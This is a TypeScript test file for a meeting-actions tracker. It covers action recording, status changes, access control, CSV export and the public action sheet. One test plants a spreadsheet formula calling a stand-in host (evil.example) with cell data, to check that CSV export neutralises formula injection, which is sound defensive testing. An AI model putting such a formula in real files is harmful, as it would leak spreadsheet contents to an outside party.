import { beforeAll, describe, expect, it } from 'vitest'
import { useTestApp } from '../../../test/support/use-test-app.ts'
import { parse } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import { addDays, formatDate, londonToday } from '../../shared/dates.ts'
import { Agent, createTestApp, signedInAgent } from '../../../test/support/app.ts'
import { createTestDatabase } from '../../../test/support/db.ts'
import { buildAgendaItem, buildBody, buildMeeting, buildPartnership, buildPerson } from '../../../test/support/builders.ts'
import { buildAction, buildActionUpdate, buildBodyAction } from '../../../test/support/action-builders.ts'
import { expectFormErrors } from '../../../test/support/form-errors.ts'
import { expectPage } from '../../../test/support/page-text.ts'
import { actionPaths } from './actions.paths.ts'
import { CSV_MAX_ROWS } from './actions.service.ts'
import { meetingPaths } from '../meetings/meetings.paths.ts'
import { seedDemoIfEmpty } from '../../demo/demo.seed.ts'

const t = useTestApp()
let partnershipId: string
let staff: Agent

const P = actionPaths.manage

beforeAll(async () => {
  partnershipId = (await buildPartnership(t.db)).id
  staff = await signedInAgent(t.app, t.services, { secretariatOf: [partnershipId] })
})

/** A 409 for a stale version: the form again, saying someone else changed it, with the user's text kept and the current version. */
async function expectStaleForm(res: Response, typed: string, version: number): Promise<string> {
  expect(res.status).toBe(409)
  const html = await res.text()
  expect(html).toContain('Someone else changed this')
  expect(html).toContain(typed)
  expect(html).toContain(`name="version" value="${version}"`)
  return html
}

async function ourItem(opts: { exempt?: boolean } = {}) {
  const body = await buildBody(t.db, { partnershipId })
  const meeting = await buildMeeting(t.db, { bodyId: body.id, date: '2016-07-19' }, 'minutesDraft')
  const item = await buildAgendaItem(t.db, {
    meetingId: meeting.id,
    ...(opts.exempt ? { isExempt: true, exemptParagraph: 3, publicInterestReasoning: 'Commercial' } : {}),
  })
  return { body, meeting, item }
}

describe('recording an action from the minutes item page', () => {
  it('lists the item’s actions and links to add one; the form records an action', async () => {
    const { item, meeting } = await ourItem()
    const person = await buildPerson(t.db, { fullName: 'Hayley Hughes', email: 'hayley@example.org', usedBy: partnershipId })
    const minutesPage = await staff.getText(meetingPaths.manage.itemMinutes(item.id))
    expect(minutesPage.status).toBe(200)
    expect(minutesPage.text).toContain('No actions recorded for this item.')
    expect(minutesPage.text).toContain(`href="${P.newAction(item.id)}"`)

    const form = await staff.getText(P.newAction(item.id))
    expect(form.status).toBe(200)
    expect(form.text).toContain('Hayley Hughes')
    const res = await staff.post(P.newAction(item.id), {
      description: 'Circulate Away Day outcomes',
      personIds: [person.id, '', ''],
      organisationIds: ['', ''],
      groups: 'PMO',
      dueOn: '2016-08-01',
      isPublic: 'yes',
    })
    expect(res.status).toBe(303)
    const actionPage = await staff.getText(res.headers.get('location')!)
    expect(actionPage.status).toBe(200)
    expect(actionPage.text).toContain('Circulate Away Day outcomes')
    expect(actionPage.text).toContain('Hayley Hughes, PMO')
    expect(actionPage.text).toContain('Overdue')
    expect(actionPage.text).not.toContain('hayley@example.org')
    const action = (await t.services.actions.actionsOfItem(item.id))[0]!
    expect(action).toMatchObject({ raisedOn: meeting.date, isPublic: true, bodyId: meeting.bodyId })

    const again = await staff.getText(meetingPaths.manage.itemMinutes(item.id))
    expect(again.text).toContain(`href="${P.action(action.id)}"`)
  })

  it('400 with an error summary and everything typed kept when no owner is given', async () => {
    const { item } = await ourItem()
    const res = await staff.post(P.newAction(item.id), { description: 'Send a collective response to LCC', personIds: ['', ''], groups: '', dueOn: '2016-13-45' })
    expect(res.status).toBe(400)
    const html = await res.text()
    expectFormErrors(html, ['personIds', 'dueOn'], ['Choose at least one owner', 'Send a collective response to LCC', 'value="2016-13-45"'])
  })

  it('does not offer "public" on an exempt item', async () => {
    const { item } = await ourItem({ exempt: true })
    const form = await staff.getText(P.newAction(item.id))
    expect(form.text).toContain('the action will never be published')
    expect(form.text).not.toContain('name="isPublic"')
  })
})

describe('the action page', () => {
  it('adds an update with a status change; a refused transition is a 400 with a clear message', async () => {
    const { meeting } = await ourItem()
    const action = await buildAction(t.db, { meetingId: meeting.id, status: 'cleared', clearedAtMeetingId: meeting.id, clearedAt: new Date() })
    const res = await staff.post(P.addUpdate(action.id), { text: 'Reopen please', statusTo: 'open' })
    expect(res.status).toBe(400)
    const html = await res.text()
    expect(html).toContain('This action has been cleared, so its status cannot change')
    expect(html).toContain('Reopen please')

    const open = await buildAction(t.db, { meetingId: meeting.id })
    const ok = await staff.post(P.addUpdate(open.id), { text: 'Under way', statusTo: 'in_progress', reportedAtMeetingId: meeting.id })
    expect(ok.status).toBe(303)
    const page = await staff.getText(P.action(open.id))
    expect(page.text).toContain('Under way')
    expect(page.text).toContain('Reported at the meeting on Tuesday 19 July 2016')
    expect(page.text).toContain('status changed to In progress')
    expect(page.text).toContain(`action="${P.sendOwnerLink(open.id)}"`)
  })

  it('the status page: clearing without a meeting is a 400; with one it clears', async () => {
    const { meeting } = await ourItem()
    const action = await buildAction(t.db, { meetingId: meeting.id, status: 'completed', completedOn: '2016-08-01' })
    const form = await staff.getText(P.changeStatus(action.id))
    expect(form.status).toBe(200)
    expect(form.text).toContain('govuk-radios__conditional')
    expect(form.text).toContain('id="clearedAtMeetingId"')
    expect(form.text).toContain('Tuesday 19 July 2016')
    expect(form.text).not.toContain('value="completed"')
    const bad = await staff.post(P.changeStatus(action.id), { statusTo: 'cleared', clearedAtMeetingId: '', note: 'kept note' })
    expect(bad.status).toBe(400)
    const html = await bad.text()
    expect(html).toContain('Select the meeting that agreed to clear the action')
    expect(html).toContain('kept note')
    const good = await staff.post(P.changeStatus(action.id), { statusTo: 'cleared', clearedAtMeetingId: meeting.id })
    expect(good.status).toBe(303)
    expect((await t.services.actions.getAction(action.id)).status).toBe('cleared')
  })

  it('edits: a stale version is a 409 that keeps the user’s text and carries the new version', async () => {
    const { meeting } = await ourItem()
    const action = await buildAction(t.db, { meetingId: meeting.id })
    const form = await staff.getText(P.editAction(action.id))
    expect(form.text).toContain('name="version" value="1"')
    await t.services.actions.updateAction(await adminUser(), action.id, {
      description: 'Theirs',
      personIds: [],
      organisationIds: [],
      groups: ['PMO'],
      dueOn: undefined,
      isPublic: 'yes',
      decisionId: undefined,
      version: 1,
    })
    const res = await staff.post(P.editAction(action.id), { description: 'Mine, typed carefully', groups: 'Executive', version: '1' })
    await expectStaleForm(res, 'Mine, typed carefully', 2)
    const saved = await staff.post(P.editAction(action.id), { description: 'Mine, typed carefully', groups: 'Executive', version: '2' })
    expect(saved.status).toBe(303)
  })

  it('an update that changes the status carries the version: stale is a 409 keeping the text, with the new version', async () => {
    const { meeting } = await ourItem()
    const action = await buildAction(t.db, { meetingId: meeting.id })
    const page = await staff.getText(P.action(action.id))
    expect(page.text).toContain('<input type="hidden" name="version" value="1">')
    // Someone else moves it on while the form is open.
    await t.services.actions.changeStatus(await adminUser(), action.id, { statusTo: 'in_progress' })
    const res = await staff.post(P.addUpdate(action.id), { text: 'Done, typed carefully', statusTo: 'completed', version: '1' })
    const html = await expectStaleForm(res, 'Done, typed carefully', 2)
    expect(html).toContain('<input type="hidden" name="version" value="2">')
    expect((await t.services.actions.getAction(action.id)).status).toBe('in_progress')
    // An update alone does not depend on the status seen: a stale version does not stop it.
    expect((await staff.post(P.addUpdate(action.id), { text: 'Just words', version: '1' })).status).toBe(303)
    const again = await staff.post(P.addUpdate(action.id), { text: 'Done, typed carefully', statusTo: 'completed', version: '2' })
    expect(again.status).toBe(303)
    expect((await t.services.actions.getAction(action.id)).status).toBe('completed')
  })

  it('a cleared or dropped action cannot be edited: no link on its page, and the form and save are refused', async () => {
    const { meeting } = await ourItem()
    const cleared = await buildAction(t.db, {
      meetingId: meeting.id,
      description: 'As minuted',
      status: 'cleared',
      clearedAtMeetingId: meeting.id,
      clearedAt: new Date(),
    })
    const dropped = await buildAction(t.db, { meetingId: meeting.id, status: 'dropped', droppedReason: 'overtaken' })
    for (const a of [cleared, dropped]) {
      const page = await staff.getText(P.action(a.id))
      expect(page.status).toBe(200)
      expect(page.text).not.toContain(`href="${P.editAction(a.id)}"`)
      const form = await staff.getText(P.editAction(a.id))
      expect(form.status).toBe(409)
      expect(form.text).toContain('so it can no longer be changed')
    }
    const res = await staff.post(P.editAction(cleared.id), { description: 'Rewritten history', groups: 'Executive', version: '1' })
    expect(res.status).toBe(409)
    expect((await t.services.actions.getAction(cleared.id)).description).toBe('As minuted')
    const open = await buildAction(t.db, { meetingId: meeting.id })
    expect((await staff.getText(P.action(open.id))).text).toContain(`href="${P.editAction(open.id)}"`)
  })

  it('links actions of the same body and shows both sides', async () => {
    const { meeting } = await ourItem()
    const a = await buildAction(t.db, { meetingId: meeting.id, description: 'Executive to consider the outcomes' })
    const b = await buildAction(t.db, { meetingId: meeting.id, description: 'PMO to arrange discussions' })
    expect((await staff.post(P.links(a.id), { linkedActionId: b.id })).status).toBe(303)
    expect((await staff.getText(P.action(b.id))).text).toContain('Executive to consider the outcomes')
    const bad = await staff.post(P.links(a.id), { linkedActionId: 'nope' })
    expect(bad.status).toBe(400)
    expect((await staff.post(P.unlink(b.id), { linkedActionId: a.id })).status).toBe(303)
    expect((await staff.getText(P.action(a.id))).text).toContain('No linked actions.')
  })
})

describe('access', () => {
  it('no user: pages redirect to sign in, forms are 401; the tracker and CSV too', async () => {
    const action = await buildAction(t.db)
    const anon = new Agent(t.app)
    for (const path of [P.action(action.id), P.tracker(), P.trackerCsv(), P.editAction(action.id), P.newAction(action.itemId!)]) {
      const res = await anon.get(path)
      expect(res.status, path).toBe(302)
      expect(res.headers.get('location')).toMatch(/^\/sign-in/)
    }
    expect((await anon.post(P.addUpdate(action.id), { text: 'x' })).status).toBe(401)
  })

  it('another partnership’s secretariat gets 403; someone with no staff role cannot see the tracker', async () => {
    const action = await buildAction(t.db)
    expect((await staff.get(P.action(action.id))).status).toBe(403)
    expect((await staff.get(P.newAction(action.itemId!))).status).toBe(403)
    expect((await staff.post(P.addUpdate(action.id), { text: 'x' })).status).toBe(403)
    const member = await signedInAgent(t.app, t.services, {})
    expect((await member.get(P.tracker())).status).toBe(403)
    expect((await member.get(P.trackerCsv())).status).toBe(403)
  })

  it('an id that is not a uuid is a 404', async () => {
    expect((await staff.get(P.action('not-an-id'))).status).toBe(404)
  })
})

describe('the tracker page and CSV', () => {
  let tracker: Agent
  let ids: string[]
  beforeAll(async () => {
    const p = await buildPartnership(t.db, { name: 'Chorley Public Service Reform' })
    tracker = await signedInAgent(t.app, t.services, { secretariatOf: [p.id] })
    const body = await buildBody(t.db, { partnershipId: p.id, name: 'Chorley PSR Executive' })
    const meeting = await buildMeeting(t.db, { bodyId: body.id, date: '2016-07-19' })
    const person = await buildPerson(t.db, { fullName: 'Siobhán O’Gara' })
    const tricky = await buildAction(t.db, {
      meetingId: meeting.id,
      description: 'Send a "collective" response, on behalf of the partnership\nsecond line',
      dueOn: addDays(londonToday(), -1),
      owners: [{ personId: person.id }, { groupName: 'PMO' }],
    })
    await buildActionUpdate(t.db, { actionId: tricky.id, text: 'Cleared as response provided' })
    ids = [tricky.id]
    for (let i = 0; i < 26; i++) ids.push((await buildAction(t.db, { meetingId: meeting.id, description: `Plain action ${i}`, status: 'completed', isPublic: false })).id)
  })

  it('renders rows, sort links that work without JavaScript, and pagination', async () => {
    expectPage(await tracker.getText(P.tracker()), 200, [
      'Showing 1 to 25 of 27 actions',
      'Chorley PSR Executive',
      'Siobhán O’Gara, PMO',
      'href="/manage/actions?sort=body"',
      'aria-sort="ascending"',
      'govuk-pagination',
      'href="/manage/actions?page=2"',
    ])
    const two = await tracker.getText(`${P.tracker()}?page=2&sort=raised&dir=desc`)
    expect(two.text).toContain('Showing 26 to 27 of 27 actions')
    const filtered = await tracker.getText(`${P.tracker()}?overdue=yes&q=collective`)
    expect(filtered.text).toContain('Showing 1 to 1 of 1 action')
    expect(filtered.text).toContain('href="/manage/actions.csv?overdue=yes&amp;q=collective"')
  })

  it('exports CSV that round-trips: BOM, header, quotes, commas, newlines and non-ASCII names', async () => {
    const res = await tracker.get(P.trackerCsv())
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toContain('text/csv')
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="actions-${londonToday()}.csv"`)
    const bytes = new Uint8Array(await res.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
    const records: string[][] = parse(text, { bom: true })
    expect(records[0]).toEqual(['id', 'body', 'partnership', 'description', 'owners', 'status', 'due_on', 'overdue', 'raised_on', 'days_open', 'public', 'latest_update'])
    expect(records).toHaveLength(28)
    const row = records.find((r) => r[0] === ids[0])!
    expect(row).toEqual([
      ids[0],
      'Chorley PSR Executive',
      'Chorley Public Service Reform',
      'Send a "collective" response, on behalf of the partnership\nsecond line',
      'Siobhán O’Gara, PMO',
      'open',
      addDays(londonToday(), -1),
      'yes',
      '2016-07-19',
      expect.stringMatching(/^\d+$/),
      'yes',
      'Cleared as response provided',
    ])
    const filtered: string[][] = parse(new TextDecoder().decode(new Uint8Array(await (await tracker.get(`${P.trackerCsv()}?status=completed`)).arrayBuffer())), { bom: true })
    expect(filtered).toHaveLength(27)
    expect(filtered.slice(1).every((r) => r[5] === 'completed' && r[10] === 'no')).toBe(true)
  })

  it('neutralises formulas that owners write in descriptions and updates', async () => {
    const p = await buildPartnership(t.db)
    const agent = await signedInAgent(t.app, t.services, { secretariatOf: [p.id] })
    const body = await buildBody(t.db, { partnershipId: p.id })
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    const action = await buildAction(t.db, { bodyId: body.id, description: formula })
    await buildActionUpdate(t.db, { actionId: action.id, text: '@SUM(1+1)' })
    const text = new TextDecoder().decode(new Uint8Array(await (await agent.get(P.trackerCsv())).arrayBuffer()))
    const [, row]: string[][] = parse(text, { bom: true })
    expect(row![3]).toBe(`'${formula}`)
    expect(row![11]).toBe(`'@SUM(1+1)`)
  })

  it('refuses, with a 400 asking to narrow the filters, an export larger than the CSV can hold', async () => {
    const p = await buildPartnership(t.db)
    const agent = await signedInAgent(t.app, t.services, { secretariatOf: [p.id] })
    const body = await buildBody(t.db, { partnershipId: p.id })
    await t.db.execute(
      sql`insert into actions (body_id, description, raised_on) select ${body.id}::uuid, 'bulk ' || n, date '2016-07-19' from generate_series(1, ${CSV_MAX_ROWS + 1}::int) n`,
    )
    const res = await agent.get(P.trackerCsv())
    expect(res.status).toBe(400)
    expect(res.headers.get('content-type')).toContain('text/html')
    const html = await res.text()
    expect(html).toContain('20,001 actions match these filters, but a CSV export can hold at most 20,000')
    expect(html).toContain('href="#q"')
    // Narrowed to within the limit, it downloads.
    await t.db.execute(sql`update actions set status = 'completed' where body_id = ${body.id} and description = 'bulk 1'`)
    const narrowed = await agent.get(`${P.trackerCsv()}?status=completed`)
    expect(narrowed.status).toBe(200)
    expect(parse(new TextDecoder().decode(new Uint8Array(await narrowed.arrayBuffer())), { bom: true })).toHaveLength(2)
  }, 60_000)
})

describe('the public action sheet', () => {
  it('shows only public actions, never one on an exempt item, with cleared ones apart and no emails', async () => {
    const body = await buildBody(t.db, { partnershipId })
    const meeting = await buildMeeting(t.db, { bodyId: body.id, date: '2016-07-19' }, 'minutesApproved')
    const item = await buildAgendaItem(t.db, { meetingId: meeting.id })
    const exempt = await buildAgendaItem(t.db, { meetingId: meeting.id, position: 1, isExempt: true, exemptParagraph: 3, publicInterestReasoning: 'x' })
    const subOfExempt = await buildAgendaItem(t.db, { meetingId: meeting.id, position: 2, parentItemId: exempt.id })
    const owner = await buildPerson(t.db, { fullName: 'Chris Sinnott', email: 'chris.secret@example.org' })
    await buildAction(t.db, { itemId: item.id, description: 'CANARY-PUBLIC-OPEN', owners: [{ personId: owner.id }] })
    await buildAction(t.db, { itemId: item.id, description: 'CANARY-PRIVATE', isPublic: false })
    // Marked public by mistake (or the item became exempt later): the query still keeps them out.
    await buildAction(t.db, { itemId: exempt.id, description: 'CANARY-EXEMPT', isPublic: true })
    await buildAction(t.db, { itemId: subOfExempt.id, description: 'CANARY-SUB-EXEMPT', isPublic: true })
    await buildAction(t.db, { itemId: item.id, description: 'CANARY-DROPPED', status: 'dropped', droppedReason: 'x' })
    await buildAction(t.db, { itemId: item.id, description: 'CANARY-CLEARED', status: 'cleared', clearedAtMeetingId: meeting.id, clearedAt: new Date('2016-09-27T16:00:00Z') })
    // Raised at a meeting whose minutes are not published yet: not public until they are.
    const unpublished = await buildMeeting(t.db, { bodyId: body.id, date: '2016-11-22' }, 'agendaPublished')
    const unpublishedItem = await buildAgendaItem(t.db, { meetingId: unpublished.id })
    await buildAction(t.db, { itemId: unpublishedItem.id, description: 'CANARY-MINUTES-NOT-PUBLISHED', isPublic: true })
    // Minutes in draft, but the agenda was never published: not public either.
    const neverPublished = await buildMeeting(t.db, { bodyId: body.id, date: '2016-10-11', agendaPublishedAt: null }, 'minutesDraft')
    await buildAction(t.db, { itemId: (await buildAgendaItem(t.db, { meetingId: neverPublished.id })).id, description: 'CANARY-AGENDA-NOT-PUBLISHED' })
    // Raised at a meeting with no item (as the seed's 19 July 2016 actions): the meeting is the source.
    await buildBodyAction(t.db, {
      bodyId: body.id,
      meetingId: meeting.id,
      raisedOn: '2016-07-19',
      description: 'ITEMLESS-CLEARED',
      status: 'cleared',
      clearedAtMeetingId: meeting.id,
      clearedAt: new Date('2016-09-27T16:00:00Z'),
    })
    await buildBodyAction(t.db, { bodyId: body.id, meetingId: neverPublished.id, raisedOn: '2016-10-11', description: 'CANARY-ITEMLESS-UNPUBLISHED' })
    await buildBodyAction(t.db, { bodyId: body.id, meetingId: unpublished.id, raisedOn: '2016-11-22', description: 'CANARY-ITEMLESS-NO-MINUTES' })
    await buildBodyAction(t.db, { bodyId: body.id, description: 'CANARY-NO-SOURCE' })

    const anon = new Agent(t.app)
    const page = await anon.getText(actionPaths.public.bodyActions(body.slug))
    expect(page.status).toBe(200)
    expect(page.text).toContain('CANARY-PUBLIC-OPEN')
    expect(page.text).toContain('Chris Sinnott')
    expect(page.text).not.toContain('chris.secret@example.org')
    expect(page.text).not.toContain('CANARY-PRIVATE')
    expect(page.text).not.toContain('CANARY-EXEMPT')
    expect(page.text).not.toContain('CANARY-SUB-EXEMPT')
    expect(page.text).not.toContain('CANARY-DROPPED')
    expect(page.text).not.toContain('CANARY-MINUTES-NOT-PUBLISHED')
    expect(page.text).not.toContain('CANARY-AGENDA-NOT-PUBLISHED')
    expect(page.text).not.toContain('CANARY-ITEMLESS')
    expect(page.text).not.toContain('CANARY-NO-SOURCE')
    const [current, cleared] = page.text.split('id="cleared"')
    expect(current).toContain('CANARY-PUBLIC-OPEN')
    expect(cleared).toContain('CANARY-CLEARED')
    expect(cleared).toContain('ITEMLESS-CLEARED')
    expect(cleared).toContain('27 September 2016')

    const bodyPage = await anon.getText(`/bodies/${body.slug}`)
    expect(bodyPage.text).toContain(`href="${actionPaths.public.bodyActions(body.slug)}"`)
    expect((await anon.get(actionPaths.public.bodyActions('no-such-body'))).status).toBe(404)
  })
})

describe('the public action sheet: overdue, honestly', () => {
  it('keeps the red "Overdue" tag for a recent action and says an action nobody followed up since 2015 is just that', async () => {
    const body = await buildBody(t.db, { partnershipId, name: 'Follow-up Board' })
    const meeting = await buildMeeting(t.db, { bodyId: body.id, date: '2015-02-10' }, 'minutesApproved')
    const item = await buildAgendaItem(t.db, { meetingId: meeting.id })
    await buildMeeting(t.db, { bodyId: body.id, date: '2015-04-21' }, 'minutesApproved')
    await buildAction(t.db, { itemId: item.id, description: 'Circulate the away day outcomes', raisedOn: '2015-02-10', dueOn: '2015-02-17' })
    const today = londonToday()
    const recent = await buildAction(t.db, { itemId: item.id, description: 'Book the next venue', raisedOn: addDays(today, -40), dueOn: addDays(today, -3) })
    // An update last month keeps an old action plainly overdue: someone is still on it.
    const chased = await buildAction(t.db, { itemId: item.id, description: 'Agree the data sharing protocol', raisedOn: '2015-02-10', dueOn: '2015-06-30' })
    await buildActionUpdate(t.db, { actionId: chased.id, text: 'Still with legal', createdAt: new Date(`${addDays(today, -30)}T12:00:00Z`) })

    const page = await new Agent(t.app).getText(actionPaths.public.bodyActions(body.slug))
    expect(page.status).toBe(200)
    const row = (words: string) => page.text.split('<tr').find((r) => r.includes(words)) ?? ''
    const old = row('Circulate the away day outcomes')
    expect(old).toContain('Not followed up')
    expect(old).not.toContain('>Overdue<')
    expect(old).toMatch(/Overdue since February 2015 – not updated for 1\d years; the body has met 1 time since/)
    expect(row('Book the next venue')).toMatch(/govuk-tag--red[^>]*>\s*Overdue\s*</)
    expect(row('Book the next venue')).toContain(`Overdue since ${formatDate(recent.dueOn!)}`)
    expect(row('Agree the data sharing protocol')).toMatch(/govuk-tag--red[^>]*>\s*Overdue\s*</)
    expect(page.text).toContain('An overdue action is marked “Not followed up”')
  })
})

async function adminUser() {
  return { id: (await import('../../../test/support/builders.ts').then((m) => m.buildUser(t.db, { isAdmin: true }))).id, email: 'x@example.org', displayName: 'Admin', isAdmin: true, secretariatOf: [], memberOf: [] }
}

describe('the public action sheet of the demo', () => {
  it('lists the four actions raised at the Executive of 19 July 2016 (no item: the meeting is their source) as cleared', async () => {
    const demo = await createTestDatabase()
    try {
      const app = createTestApp(demo)
      expect(await seedDemoIfEmpty(app.services)).toBe(true)
      const page = await new Agent(app.app).getText(actionPaths.public.bodyActions('chorley-public-services-reform-executive'))
      expect(page.status).toBe(200)
      const cleared = page.text.split('id="cleared"')[1]!
      for (const words of [
        'send a collective response to LCC',
        'consider the outcomes of the work so far',
        'arrange discussions across each organisation',
        'bring the proposal back to the Executive',
      ]) {
        expect(cleared).toContain(words)
      }
      expect(app.logger.errors).toEqual([])
    } finally {
      await demo.close()
    }
  }, 60_000)
})
